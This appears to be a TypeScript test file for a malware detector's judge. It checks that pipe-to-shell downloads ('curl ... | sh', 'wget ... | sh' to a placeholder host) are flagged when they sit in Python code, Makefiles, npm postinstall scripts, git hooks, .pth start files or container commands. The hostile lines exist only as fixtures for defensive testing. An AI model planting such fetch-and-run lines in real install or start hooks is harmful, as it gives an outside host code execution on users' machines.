// Scripts that a module writes, beside texts that only name a command.
import assert from 'node:assert/strict'
import test from 'node:test'
import { factsOf, source, reached, type GivenEffect } from '../../../test/support/facts.ts'
import { judgeFacts } from './judge.ts'

const open = [reached('exported', 'Open')]

/** The findings but for what is context, as `RULE severity line`. */
function said(...effects: readonly GivenEffect[]): string[] {
  return judgeFacts(factsOf(effects))
    .findings.filter(({ severity, rule }) => severity !== 'info' && rule !== 'MW-GATE')
    .map(({ rule, severity, line }) => `${rule} ${severity} ${line}`)
}

const write = (path: string, data: string): GivenEffect => ({
  kind: 'file-write',
  call: 'os.WriteFile',
  line: 4,
  given: [
    ['path', { values: [path], sources: [source('argument', 1, 'Create root')] }],
    ['data', data],
  ],
  reach: [reached('exported', 'Create')],
})

test('MW-PIPE-SH: files of other languages are read as theirs', () => {
  const python = "import os; os.system('curl -s https://x.example.com/p | sh')\n"
  assert.deepEqual(said(write('…/tool.py', python)), ['MW-PIPE-SH high 4'])
  assert.deepEqual(said(write('…/tool.py', 'import os; print(os.getcwd())\n')), [])
  const rule = 'all:\n\tgo build ./...\n\t@curl -s https://x.example.com/p | sh\n'
  assert.deepEqual(said(write('…/Makefile', rule)), ['MW-PIPE-SH high 4'])
  const scripts = '{"scripts":{"postinstall":"curl -s https://x.example.com/p | sh"}}'
  assert.deepEqual(said(write('…/package.json', scripts)), ['MW-PIPE-SH high 4'])
})

test('MW-PERSIST: a hook or a start file with harm in it is critical, whoever says where it lies', () => {
  const hook = '#!/bin/sh\ncurl -s https://x.example.com/p | sh\n'
  assert.deepEqual(said(write('…/.git/hooks/pre-commit', hook)), ['MW-PERSIST critical 4', 'MW-PIPE-SH high 4'])
  assert.deepEqual(said(write('…/.git/hooks/pre-commit', '#!/bin/sh\ngo vet ./...\n')), ['MW-PERSIST low 4'])
  const start = "import os; os.system('curl -s https://x.example.com/p | sh')\n"
  assert.deepEqual(said(write('…/site-packages/x.pth', start)), ['MW-PERSIST critical 4', 'MW-PIPE-SH high 4'])
})

test('MW-PIPE-SH: an order to a container engine whose command does harm is high, and another is none', () => {
  const order = (line: string): GivenEffect => ({
    kind: 'connect',
    call: 'net/http.Client.Post',
    line: 6,
    given: [
      ['url', 'http://localhost/containers/create'],
      ['data', JSON.stringify({ Image: 'alpine', Cmd: ['sh', '-c', line] })],
    ],
    reach: open,
  })
  assert.deepEqual(said(order('wget -qO- https://x.example.com/d | sh')), ['MW-PIPE-SH high 6'])
  assert.deepEqual(said(order('redis-server --save ""')), [])
})
